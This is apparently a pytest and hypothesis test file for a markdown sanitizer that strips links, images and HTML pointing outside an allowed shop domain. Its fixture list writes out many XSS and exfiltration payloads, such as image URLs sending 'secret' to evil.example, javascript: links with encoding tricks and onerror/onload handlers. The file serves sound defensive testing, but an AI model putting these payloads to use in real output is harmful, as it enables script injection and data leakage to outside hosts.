"""Whatever a model or a document says, nothing of it loads, runs or leads to a strange host."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.services.safe_markdown import GONE, plain, sanitized

HOSTS = {"shop.example"}
SAFE = """You **can** return *it* within `30` days, see [the page](https://shop.example/returns).

- one
- two

1. first
2. second

It costs 5 < 6, a & b, "quoted", 2 * 3 = 6, 3:45, snake_case."""
ATTACKS = [
    "![x](https://evil.example/a.png?q=secret)",
    "![x](//evil.example/a.png)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[![x](https://evil.example/a.png)](https://shop.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#x6a;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](https://evil.example)",
    "[click](https://shop.example@evil.example/)",
    "[click](https://shop.example:x@evil.example/)",
    "[click](https://shop.example.evil.example/)",
    "[click](https://evil.example/shop.example)",
    "[click](https://evil.example#.shop.example)",
    "[click](https://evil.example?.shop.example)",
    "[click](https://evil.example;.shop.example)",
    "[click](https://evil.example\\.shop.example)",
    "[click](https://evil.example%2f.shop.example)",
    "[click](https:evil.example)",
    "[click](https:///evil.example)",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "[click](<https://evil.example>)",
    "[click][ref]\n\n[ref]: <https://evil.example> 'title'",
    "[ref]\n\n[ref]: https://evil.example",
    "[click](\nhttps://evil.example\n)",
    "[a [b](https://evil.example) c](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "www.evil.example/x",
    "ftp://evil.example/x",
    "https&#58;//evil.example",
    "https&colon;//evil.example",
    "ht\u200btps://evil.example",
    "[click](https://ev\u202eil.example)",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<svg/onload=alert(1)>",
    "<a href='https://evil.example'>x</a>",
    "<iframe src=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "`![x](https://evil.example/a.png)`",
    "` ` `![x](https://evil.example/a.png)",
    "```\n![x](https://evil.example/a.png)\n",
    "    ![x](https://evil.example/a.png)",
    "[x]\\(https://evil.example)",
    "\\[x](https://evil.example)",
    "[x\\](https://evil.example)",
    "![x\\](https://evil.example/a.png)",
    "!\\[x](https://evil.example/a.png)",
    "| ![x](https://evil.example/a.png) | b |",
    "# ![x](https://evil.example/a.png)",
    "> ![x](https://evil.example/a.png)",
    "[click](mailto:a@evil.example)",
    '[a](https://shop.example/"onmouseover=alert(1)//)',
]
KNOWN_TAGS = (
    "p a em strong code ul ol li pre br hr blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td"
)
_browser = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")


def is_harmless(text: str) -> bool:
    """What a browser would make of it, in a viewer that even lets HTML through."""
    page = _browser.render(text)
    links = re.findall(r'(?:href|src)="([^"]*)"', page)
    own = r"https?://(?:[a-z0-9-]+\.)*shop\.example(?:/|\?|#|$)|mailto:[^?]*@shop\.example$"
    tags = re.findall(r"<\s*/?\s*([a-zA-Z!?][^\s/>]*)", page)
    return all(re.match(own, link) for link in links) and {
        tag.lower() for tag in tags
    } <= frozenset(KNOWN_TAGS.split())


@pytest.mark.parametrize("attack", ATTACKS)
def test_L1_no_known_attack_survives(attack: str) -> None:
    for text in (attack, f"Read this: {attack} now.", f"{attack}\n{attack}"):
        clean = sanitized(text, HOSTS)
        assert is_harmless(clean), clean
        assert "://evil" not in clean.lower()
        assert "javascript:" not in clean.lower()
        assert sanitized(clean, HOSTS) == clean


@given(st.lists(st.sampled_from([*ATTACKS, "text", " ", "\n", "`", "[", "](", ")", "!", "<", "&"])))
@settings(max_examples=300, deadline=None)
def test_L1_nor_does_any_mixture_of_them(pieces: list[str]) -> None:
    clean = sanitized("".join(pieces), HOSTS)
    assert is_harmless(clean), clean
    assert sanitized(clean, HOSTS) == clean


@given(st.lists(st.text(alphabet="ab![]()<>`\\/:&#;.|\n htps@\u202e\u200d", max_size=30)))
@settings(max_examples=300, deadline=None)
def test_L1_pieces_cleaned_one_by_one_are_harmless_together(pieces: list[str]) -> None:
    """A sentence is released before the next one is known."""
    clean = [sanitized(each, HOSTS) for each in pieces]
    for between in (" ", "\n", "\n\n"):
        assert is_harmless(between.join(clean))


@given(st.text(max_size=200))
@settings(max_examples=300, deadline=None)
def test_L1_any_text_becomes_harmless_and_stays_as_it_is_then(text: str) -> None:
    clean = sanitized(text, HOSTS)
    assert is_harmless(clean)
    assert sanitized(clean, HOSTS) == clean


def test_the_safe_subset_is_left_alone() -> None:
    assert sanitized(SAFE, HOSTS) == SAFE


@pytest.mark.parametrize(
    ("written", "clean"),
    [
        ("![A lamp](https://evil.example/a.png)", "A lamp"),
        ("[our page](https://evil.example)", "our page"),
        ("[Prices](https://www.shop.example/a_b?c=1&d=2#e)",) * 2,
        ("See https://shop.example/a.", "See https://shop.example/a."),
        ("See https://evil.example/a.", f"See {GONE}."),
        ("[x](mailto:a@shop.example?bcc=b@evil.example)", "[x](mailto:a@shop.example)"),
        ("[https://bank.example](https://shop.example)", f"[{GONE}](https://shop.example)"),
        ("## Steps", "**Steps**"),
        ("> quoted", "quoted"),
        ("| a | b |\n|---|---|\n| c | d |", "- a | b\n- c | d"),
        ("Write to help@shop.example.", "Write to help@shop.example."),
        ("Ember < Lantern <3", "Ember < Lantern <3"),
        ("GET /orders/{id}", "GET /orders/{id}"),
        ("right\u202eleft", "rightleft"),
        ("👩‍🔧 fixes it", "👩‍🔧 fixes it"),
        ("R&amp;D", "R&D"),
        ("GET /orders/<id>", "GET /orders/‹id›"),
        ("<b>Bold</b>", "Bold"),
    ],
)
def test_what_is_taken_away_leaves_its_words(written: str, clean: str) -> None:
    assert sanitized(written, HOSTS) == clean


def test_no_host_is_known_unless_it_is_named() -> None:
    assert sanitized("[x](https://shop.example)", ()) == "x"
    assert sanitized("[x](https://SHOP.example.)", {"Shop.Example"}) == "[x](https://SHOP.example.)"
    assert sanitized("[x](https://müller.example)", {"müller.example"}).startswith("[x](https://")


def test_a_long_line_of_brackets_takes_no_long_time() -> None:
    for nasty in ("[" * 20_000, "![](" * 5_000, "[a](" * 5_000, "<a " * 5_000, "&#" * 9_000):
        assert "](" not in sanitized(nasty, HOSTS)


@pytest.mark.parametrize(
    ("written", "bare"),
    [
        ("**Bold** and *italic* and `code`", "Bold and italic and code"),
        ("[Prices](https://shop.example/p)", "Prices (https://shop.example/p)"),
        ("[help@shop.example](mailto:help@shop.example)", "help@shop.example"),
        ("- one\n- two", "- one\n- two"),
        ("snake_case_name and 2 * 3 * 4", "snake_case_name and 2 * 3 * 4"),
        ("***both***", "both"),
    ],
)
def test_mail_and_speech_get_it_without_markdown(written: str, bare: str) -> None:
    assert plain(written) == bare
